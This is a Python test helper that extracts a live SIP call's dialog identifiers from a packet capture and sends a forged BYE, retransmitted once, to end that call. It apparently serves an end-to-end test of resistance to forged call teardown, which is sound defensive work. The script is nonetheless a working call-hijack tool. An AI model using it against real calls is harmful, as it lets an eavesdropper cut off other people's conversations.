#!/usr/bin/env python3
"""A forged BYE for a live call, as an attacker who saw its signalling
would send it (for tests/e2e/forged_bye.sh; standard library only).

  forge_bye.py dialog CAPTURE CALLER
      Prints the dialog of the last 200 OK to an INVITE sent to CALLER in
      CAPTURE (a pcap, possibly still being written), one "key<TAB>value"
      a line: call_id, from, to, contact, route, time. Exit status 1 if
      there is none yet.
  forge_bye.py send DIALOGFILE SRC SPORT DST DPORT OUTFILE
      Builds the caller's BYE for that dialog (Request-URI the callee's
      Contact, Route the recorded route set, From/To/Call-ID of the dialog,
      CSeq 2 BYE as the caller's next request) with a Via naming SRC,
      sends it from SRC:SPORT to DST:DPORT, sends it again 0.5 s later
      (a UA's retransmission, same branch), waits 1.5 s for an answer, and
      writes to OUTFILE the message and "answers: N".
"""
import os
import socket
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import pcapsum  # noqa: E402


def headers(text):
    out = []
    for line in text.split("\r\n")[1:]:
        if not line:
            break
        k, sep, v = line.partition(":")
        if sep:
            out.append((k.strip().lower(), v.strip()))
    return out


def dialog(capture, caller):
    found = None
    for t, src, sport, dst, dport, payload in pcapsum.udp_packets(capture):
        if dst != caller:
            continue
        text = payload.decode("latin-1")
        if pcapsum.sip_start(text) != ("RESP", "200"):
            continue
        h = headers(text)
        get = lambda *names: [v for k, v in h if k in names]
        cseq = (get("cseq") or [""])[0].split()
        if len(cseq) != 2 or cseq[1] != "INVITE":
            continue
        contact = (get("contact", "m") or [""])[0]
        uri = contact[contact.find("<") + 1:contact.find(">")] if "<" in contact else contact
        rr = []
        for v in get("record-route"):
            rr.extend(x.strip() for x in v.split(","))
        found = {
            "call_id": (get("call-id", "i") or [""])[0],
            "from": (get("from", "f") or [""])[0],
            "to": (get("to", "t") or [""])[0],
            "contact": uri,
            # the caller's route set: the Record-Route list reversed
            "route": ", ".join(reversed(rr)),
            "time": t,
        }
    if not found or ";tag=" not in found["to"]:
        return 1
    for k, v in found.items():
        print("%s\t%s" % (k, v))
    return 0


def send(dfile, src, sport, dst, dport, outfile):
    d = {}
    with open(dfile) as f:
        for line in f:
            k, _, v = line.rstrip("\n").partition("\t")
            d[k] = v
    branch = "z9hG4bK-forged-%d" % os.getpid()
    lines = [
        "BYE %s SIP/2.0" % d["contact"],
        "Via: SIP/2.0/UDP %s:%s;branch=%s;rport" % (src, sport, branch),
    ]
    if d.get("route"):
        lines.append("Route: %s" % d["route"])
    lines += [
        "Max-Forwards: 70",
        "From: %s" % d["from"],
        "To: %s" % d["to"],
        "Call-ID: %s" % d["call_id"],
        "CSeq: 2 BYE",
        "Content-Length: 0",
        "", "",
    ]
    msg = "\r\n".join(lines).encode()
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((src, int(sport)))
    s.settimeout(0.1)
    answers = 0
    s.sendto(msg, (dst, int(dport)))
    end_resend = time.monotonic() + 0.5
    end = time.monotonic() + 2.0
    resent = False
    while time.monotonic() < end:
        if not resent and time.monotonic() >= end_resend:
            s.sendto(msg, (dst, int(dport)))
            resent = True
        try:
            s.recvfrom(65535)
            answers += 1
        except socket.timeout:
            pass
    with open(outfile, "w") as f:
        f.write(msg.decode())
        f.write("answers: %d\n" % answers)
    return 0


if __name__ == "__main__":
    if len(sys.argv) == 4 and sys.argv[1] == "dialog":
        sys.exit(dialog(sys.argv[2], sys.argv[3]))
    if len(sys.argv) == 8 and sys.argv[1] == "send":
        sys.exit(send(*sys.argv[2:]))
    sys.exit(__doc__)
